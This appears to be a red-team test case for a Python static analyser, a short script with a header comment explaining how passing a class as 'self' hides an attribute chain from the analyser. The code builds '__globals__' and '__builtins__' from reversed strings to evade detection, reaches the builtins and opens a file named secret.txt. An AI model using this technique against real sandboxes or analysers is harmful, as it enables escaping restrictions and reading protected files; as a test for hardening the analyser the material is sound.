# family: red team, round 22 (what a method's self may be: classes reaching parameters, methods run with any self)
# Chain: attributes.attribute_chain does not record `self.m` loads inside an undecorated method (taken as
# bound), so objects.own_object never sees that Other.go, called through its class with a *class* as self
# (Other.go(Reader, ...)), reads Reader.fetch off that class: the plain function, called with a namedtuple
# as self. own_object(fetch) stays True, so self.FIELDS is trusted as a class constant -> "__globals__".
from collections import namedtuple


class Reader:
    FIELDS = ("name",)

    def fetch(self, fn):
        out = []
        for key in self.FIELDS:
            out.append(getattr(fn, key))
        return out


class Other:
    def go(self, box, fn):
        return self.fetch(box, fn)


Box = namedtuple("Box", "FIELDS")


def helper():
    return 1


def run():
    box = Box(["".join(reversed("__slabolg__"))])
    got = Other.go(Reader, box, helper)[0]
    print(sorted(got.keys())[:8])
    b = got["".join(reversed("__snitliub__"))]
    print(b)
    print(getattr(b, "open")("/tmp/r22/work/secret.txt").read())


run()
